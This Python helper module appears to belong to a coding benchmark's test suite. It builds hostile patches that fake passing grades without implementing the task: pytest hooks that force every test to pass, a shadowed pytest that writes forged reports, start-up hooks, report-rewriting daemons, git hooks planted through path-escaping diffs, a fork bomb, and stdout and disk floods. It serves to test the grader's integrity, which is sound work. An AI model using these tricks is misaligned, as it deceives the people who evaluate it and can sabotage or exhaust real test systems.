"""Hostile predictions for the demo task, one per attack on grading integrity (tests/test_hostile_grading.py).

None implements the task: honestly, each deserves at most what the base state scores. Each tries to get more, by one
of the attack classes of the grading-integrity issue: (1) skips and xfails from code under test, (2) start-up and
plugin hooks, (3) processes that outlive the evaluator and files planted for a later step, (4) state carried
between checkpoint states or agent patches, (5) patch paths that leave the work tree, (6) reports made
unreadable, (7) host resources. Patches are made with git from the demo repository, so they apply as real ones do.
"""

from __future__ import annotations

import subprocess
import tempfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from asyncodebench.images.demo import DEMO_REPO, make_base_repo

TASK_ID = "asyncodebench-demo:minicache"
CORE = "minicache/core.py"
API = "minicache/api.py"
INIT = "minicache/__init__.py"
HOST_MARKER = "/tmp/asyncodebench-hostile-host-marker"  # payloads try to create it on the host
FAKE_REPORT = ('{"created": 0, "duration": 0.1, "exitcode": 0, "root": "/testbed", "environment": {}, '
               '"summary": {"passed": 25, "total": 25, "collected": 25}, "tests": []}')

EVIL_PLUGIN = '''\
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None
'''

FAKE_PYTEST = f'''\
import os, sys
path = next((a.split("=", 1)[1] for a in sys.argv if a.startswith("--json-report-file=")), None)
if path:
    with open(path, "w") as handle:
        handle.write({FAKE_REPORT!r})
print("25 passed in 0.01s")
os._exit(0)
'''

STARTUP_ADDOPTS = '''\
import os
os.environ["PYTEST_ADDOPTS"] = "-p evil_plugin"
os.environ["PYTEST_PLUGINS"] = "evil_plugin"
'''

DAEMON = f'''
import os as _os, sys as _sys, time as _time


def _rewrite_forever(path):
    deadline = _time.time() + 60
    while _time.time() < deadline:
        for target in [path] + [_os.path.join(r, "rc") for r, _, f in _os.walk("/asyncodebench") if "rc" in f]:
            try:
                with open(target, "w") as handle:
                    handle.write({FAKE_REPORT!r} if target == path else "0\\n")
            except OSError:
                pass
        _time.sleep(0.001)
    _os._exit(0)


def _start_daemon():
    path = next((a.split("=", 1)[1] for a in _sys.argv if a.startswith("--json-report-file=")), None)
    if path is None or _os.fork():
        return
    _os.setsid()
    if _os.fork():
        _os._exit(0)
    _time.sleep(MODE_DELAY)
    _rewrite_forever(path)


_start_daemon()
'''

AT_EXIT_REWRITE = '''
import atexit as _atexit, sys as _sys


def _spoil():
    path = next((a.split("=", 1)[1] for a in _sys.argv if a.startswith("--json-report-file=")), None)
    if path and "addopts=" in _sys.argv:  # the evaluator only: its report is the one under test
        with open(path, "w") as handle:
            handle.write(SPOILED)


_atexit.register(_spoil)
'''

PLANT_FOR_LATER = '''
import os as _os
for _path, _text in PLANTS.items():
    try:
        _os.makedirs(_os.path.dirname(_path), exist_ok=True)
        with open(_path, "w") as _handle:
            _handle.write(_text)
    except OSError:
        pass
'''

# After pytest wrote its report, processes that hold the process limit and never end (so no new process, not even
# the harness's own, can start in the container); in the evaluator's process only.
LATE_FORK_BOMB = '''
import atexit as _a, os as _o, sys as _s


def _bomb():
    if _o.fork() == 0:
        _o.closerange(0, 256)
        _o.setsid()
        while True:
            try:
                _o.fork()
            except OSError:  # the limit is reached: hold on to the process slot
                __import__("time").sleep(0.5)


if "addopts=" in _s.argv:
    _a.register(_bomb)
'''

ISOLATION_PROBE = '''
import os as _os
_lines = []
for _target in ("/usr/lib/python3/dist-packages/planted.pth", "/testbed/.git/hooks/post-commit",
                "/asyncodebench/prepare.py", "/planted", "/testbed/planted.txt", "/tmp/planted.txt"):
    try:
        with open(_target, "a") as _handle:
            _handle.write("x")
        _lines.append("ISOLATION writable " + _target)
    except OSError as _exc:
        _lines.append("ISOLATION refused %s %s" % (_target, type(_exc).__name__))
for _mount in ("/testbed", "/tmp", "/asyncodebench/out"):
    _st = _os.statvfs(_mount)
    _lines.append("ISOLATION limits %s bytes=%d inodes=%d" % (_mount, _st.f_blocks * _st.f_frsize, _st.f_files))
_lines.append("ISOLATION uid=%d" % _os.getuid())
for _folder in ("/tmp", "/testbed"):  # test suites run scripts they write (cookiecutter's hooks), as upstream allows
    _script = _folder + "/probe-exec.sh"
    with open(_script, "w") as _handle:
        _handle.write("#!/bin/sh\\necho ran\\n")
    _os.chmod(_script, 0o755)
    try:
        _ran = __import__("subprocess").run([_script], capture_output=True, text=True).stdout.strip()
    except OSError as _exc:
        _ran = type(_exc).__name__
    _lines.append("ISOLATION exec %s %s" % (_folder, _ran))
__import__("atexit").register(lambda: print("\\n".join(_lines), flush=True))  # after pytest's capture ends
'''


@dataclass(frozen=True)
class Payload:
    """One hostile prediction: its name, attack class, and where the attack sits (final, checkpoint, agents)."""

    name: str
    attack_class: int
    where: str  # final | checkpoint | agents
    line: dict[str, Any] = field(hash=False)


def _base_text(path: str) -> str:
    return (DEMO_REPO / path).read_text()


def _stubs_replaced(replacement: str) -> dict[str, str]:
    """core.py and api.py with every `raise NotImplementedError(` turned into `replacement(`."""
    return {p: _base_text(p).replace("raise NotImplementedError(", replacement + "(") for p in (CORE, API)}


def _appended(path: str, code: str) -> dict[str, str]:
    return {path: _base_text(path) + "\n" + code}


class PatchMaker:
    """Makes real git diffs against the demo's base commit from file contents (and symlinks)."""

    def __init__(self) -> None:
        self._tmp = tempfile.TemporaryDirectory(prefix="hostile-base-")
        self.repo = Path(self._tmp.name) / "repo"
        make_base_repo(self.repo)

    def diff(self, files: dict[str, str], symlinks: dict[str, str] | None = None) -> str:
        for path, text in files.items():
            target = self.repo / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(text)
        for path, destination in (symlinks or {}).items():
            (self.repo / path).symlink_to(destination)
        git = ["git", "-C", str(self.repo), "-c", "core.quotePath=true"]
        subprocess.run(git + ["add", "-A", "-f"], check=True)
        done = subprocess.run(git + ["diff", "--cached", "--binary"], check=True, capture_output=True, text=True)
        subprocess.run(git + ["reset", "-q", "--hard", "HEAD"], check=True)
        subprocess.run(git + ["clean", "-qfdx"], check=True)
        return done.stdout

    def close(self) -> None:
        self._tmp.cleanup()


def _line(name: str, patch: str | None, **extra: Any) -> dict[str, Any]:
    return {"task_id": TASK_ID, "model_name_or_path": name, "protocol": "single", "model_patch": patch, **extra}


def payloads(make: PatchMaker) -> list[Payload]:
    """Every hostile prediction of the suite (40), each built fresh from the demo's base."""
    d = make.diff
    plugin_files = {"evil_plugin.py": EVIL_PLUGIN}
    found: list[Payload] = []

    def final(name: str, attack_class: int, patch: str) -> None:
        found.append(Payload(name, attack_class, "final", _line(name, patch)))

    # 1. Skips and xfails from code under test, and shrinking what gets collected.
    final("skip-unittest", 1, d(_stubs_replaced("raise __import__('unittest').SkipTest")))
    final("skip-pytest", 1, d(_stubs_replaced("__import__('pytest').skip")))
    final("xfail-pytest", 1, d(_stubs_replaced("__import__('pytest').xfail")))
    module_skip = "import pytest\npytest.skip('not today', allow_module_level=True)"
    final("skip-module-level", 1, d(_appended(INIT, module_skip)))
    final("exit-zero-at-first-call", 1, d(_stubs_replaced("__import__('os')._exit(0) or print")))
    final("keyboard-interrupt", 1, d(_stubs_replaced("raise KeyboardInterrupt")))
    # 2. Start-up and plugin hooks.
    final("shadow-pytest-at-root", 2, d({"pytest.py": FAKE_PYTEST}))
    final("shadow-pytest-package-in-src", 2, d({"src/pytest/__init__.py": FAKE_PYTEST,
                                               "src/pytest/__main__.py": FAKE_PYTEST}))
    dist_info = "evil_plugin-1.0.dist-info"
    final("entry-point-plugin", 2, d({**plugin_files,
                                      f"{dist_info}/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
                                      f"{dist_info}/entry_points.txt": "[pytest11]\nevil = evil_plugin\n"}))
    final("sitecustomize-module", 2, d({**plugin_files, "sitecustomize.py": STARTUP_ADDOPTS}))
    final("sitecustomize-package", 2, d({**plugin_files, "sitecustomize/__init__.py": STARTUP_ADDOPTS}))
    final("usercustomize-module", 2, d({**plugin_files, "usercustomize.py": STARTUP_ADDOPTS}))
    final("shadow-stdlib-json", 2, d({"json.py": FAKE_PYTEST}))
    final("conftest-at-root", 2, d({"conftest.py": EVIL_PLUGIN}))
    final("conftest-in-new-test-folder", 2, d({"tests/extra/conftest.py": EVIL_PLUGIN}))
    final("pytest-ini-addopts", 2, d({**plugin_files, "pytest.ini": "[pytest]\naddopts = -p evil_plugin\n"}))
    final("pyproject-addopts", 2, d({**plugin_files, "pyproject.toml": _base_text("pyproject.toml")
                                     + '\n[tool.pytest.ini_options]\naddopts = "-p evil_plugin"\n'}))
    final("startup-pth-file", 2, d({**plugin_files, "evil.pth": "import evil_plugin\n"}))
    final("planted-bytecode", 2, d({"tests/__pycache__/conftest.cpython-311-pytest-7.2.1.pyc": "not bytecode"}))
    # 3. Processes that outlive the evaluator; files planted for a later step.
    final("daemon-rewrites-report-at-once", 3, d(_appended(CORE, DAEMON.replace("MODE_DELAY", "0"))))
    final("daemon-rewrites-report-late", 3, d(_appended(CORE, DAEMON.replace("MODE_DELAY", "1.5"))))
    plants = {"/testbed/conftest.py": EVIL_PLUGIN, "/testbed/tests/conftest.py": EVIL_PLUGIN}
    final("plants-conftest-for-probes", 3, d(_appended(CORE, f"PLANTS = {plants!r}\n" + PLANT_FOR_LATER)))
    # 5. Patch paths that leave the work tree.
    final("quoted-dotgit-path", 5, QUOTED_GIT_HOOK)
    final("context-diff-into-git", 5, CONTEXT_DIFF_INTO_GIT)
    final("symlink-out-of-tree", 5, d({}, symlinks={"minicache/escape": "/tmp"}))
    final("symlink-into-git", 5, d({}, symlinks={"minicache/hooks": "../.git/hooks"}))
    final("plus-header-dotdot", 5, PLUS_HEADER_DOTDOT)
    # 6. Reports made unreadable (a model outcome, never an infrastructure error).
    nested = "[" * 200_000 + "]" * 200_000
    final("report-deeply-nested", 6, d(_appended(CORE, f"SPOILED = {nested!r}\n" + AT_EXIT_REWRITE)))
    evaluator_only = "300 << 20 if 'addopts=' in __import__('sys').argv else 1"  # no 300 MiB in the probes
    final("report-oversized", 6, d(_appended(CORE, f"SPOILED = 'x' * ({evaluator_only})\n" + AT_EXIT_REWRITE)))
    final("report-malformed", 6, d(_appended(CORE, "SPOILED = '{\"summary\": {\"passed\": 25,'\n"
                                             + AT_EXIT_REWRITE)))
    blocked = {"/asyncodebench/out/report.json/x": "a folder where the report goes"}
    final("report-path-blocked", 6, d(_appended(CORE, f"PLANTS = {blocked!r}\n" + PLANT_FOR_LATER)))
    # 7. Host resources.
    # From an exit hook, after pytest has given back the real stdout: 2 GiB straight at the harness's stream (in
    # the evaluator's process only, recognised by its `-o addopts=`, to keep the suite's time down).
    flood = ("import atexit as _a, os as _o, sys as _s\n_chunk = b'y' * (1 << 20)\n"
             "if 'addopts=' in _s.argv:\n    _a.register(lambda: [_o.write(1, _chunk) for _ in range(2048)])\n")
    final("stdout-flood-2-gib", 7, d(_appended(CORE, flood)))
    fill = ("import os as _o, sys as _s\n_chunk = b'z' * (1 << 20)\n"
            "try:\n    with open('/testbed/fill.bin', 'wb') as _h:\n"
            "        for _ in range(8192 * ('addopts=' in _s.argv)):  # the evaluator only\n"
            "            _h.write(_chunk)\nexcept OSError as _e:\n    print('FILL stopped', type(_e).__name__)\n")
    final("fill-work-tree", 7, d(_appended(CORE, fill)))
    final("isolation-probe", 7, d(_appended(CORE, ISOLATION_PROBE)))
    final("fork-bomb-after-the-report", 7, d(_appended(CORE, LATE_FORK_BOMB)))
    # 4. State carried between checkpoint states, and attacks in agents' patches.
    runtime_plants = {"/usr/lib/python3/dist-packages/evil.pth": "import evil_plugin\n",
                      "/testbed/.git/hooks/post-commit": "#!/bin/sh\ncp /testbed/evil_plugin.py /testbed/conftest.py\n",
                      "/testbed/conftest.py": EVIL_PLUGIN}
    planting_state = d({**plugin_files, **_appended(CORE, f"PLANTS = {runtime_plants!r}\n" + PLANT_FOR_LATER)})
    found.append(Payload("checkpoint-plants-for-later-states", 4, "checkpoint", _line(
        "checkpoint-plants-for-later-states", "", protocol="async_private", checkpoints=[
            _checkpoint("agent_artifact", "agent_workspace", "core_agent", planting_state),
            _checkpoint("integration_after_merge", "integrated_workspace", "core_agent", planting_state),
            _checkpoint("final_integrated", "integrated_workspace", None, "")])))
    found.append(Payload("checkpoint-quoted-git-hook", 4, "checkpoint", _line(
        "checkpoint-quoted-git-hook", "", protocol="async_private", checkpoints=[
            _checkpoint("agent_artifact", "agent_workspace", "core_agent", QUOTED_GIT_HOOK),
            _checkpoint("final_integrated", "integrated_workspace", None, "")])))
    skipping_core = d({CORE: _stubs_replaced("raise __import__('unittest').SkipTest")[CORE]})
    skipping_api = d({API: _stubs_replaced("raise __import__('unittest').SkipTest")[API]})
    found.append(Payload("agents-skip-their-stubs", 4, "agents", _line(
        "agents-skip-their-stubs", None, protocol="serial_specialists",
        agent_patches={"core_agent": skipping_core, "api_agent": skipping_api})))
    found.append(Payload("agents-out-of-scope-conftest", 4, "agents", _line(
        "agents-out-of-scope-conftest", None, protocol="async_private",
        agent_patches={"core_agent": d({"conftest.py": EVIL_PLUGIN}),
                       "api_agent": d({"tests/conftest.py": EVIL_PLUGIN})})))
    found.append(Payload("agents-plant-at-runtime", 4, "agents", _line(
        "agents-plant-at-runtime", None, protocol="caid_manager",
        agent_patches={"core_agent": d(_appended(CORE, f"PLANTS = {runtime_plants!r}\n" + PLANT_FOR_LATER))})))
    from helpers.payloads.tamper import tamper_payloads  # it builds on this module's helpers
    found += tamper_payloads(make)
    from helpers.payloads.skip import skip_payloads  # decision 12 (it builds on this module's helpers)
    found += skip_payloads(make)
    from helpers.payloads.tree import tree_payloads  # attack class 8: the preparation (issue 16)
    found += tree_payloads(make)
    from helpers.payloads.exhaust import exhaust_payloads  # attack class 10: exhausting the container (issue 27)
    found += exhaust_payloads(make)
    from helpers.payloads.identity import identity_payloads  # class 11: tests swapped by id (decision 14)
    found += identity_payloads(make)
    return found


def _checkpoint(kind: str, workspace: str, agent: str | None, patch: str) -> dict[str, Any]:
    return {"checkpoint_type": kind, "workspace_kind": workspace, "agent_id": agent, "patch": patch}


QUOTED_GIT_HOOK = '''\
diff --git "a/\\056git/hooks/post-commit" "b/\\056git/hooks/post-commit"
new file mode 100755
--- /dev/null
+++ "b/\\056git/hooks/post-commit"
@@ -0,0 +1,2 @@
+#!/bin/sh
+echo planted > /tmp/asyncodebench-hostile-host-marker
'''

CONTEXT_DIFF_INTO_GIT = '''\
*** a/.git/description
--- b/.git/description
***************
*** 0 ****
--- 1 ----
+ planted through patch(1)
'''

PLUS_HEADER_DOTDOT = '''\
--- a/minicache/core.py
+++ b/../../../tmp/asyncodebench-hostile-host-marker
@@ -0,0 +1 @@
+planted
'''
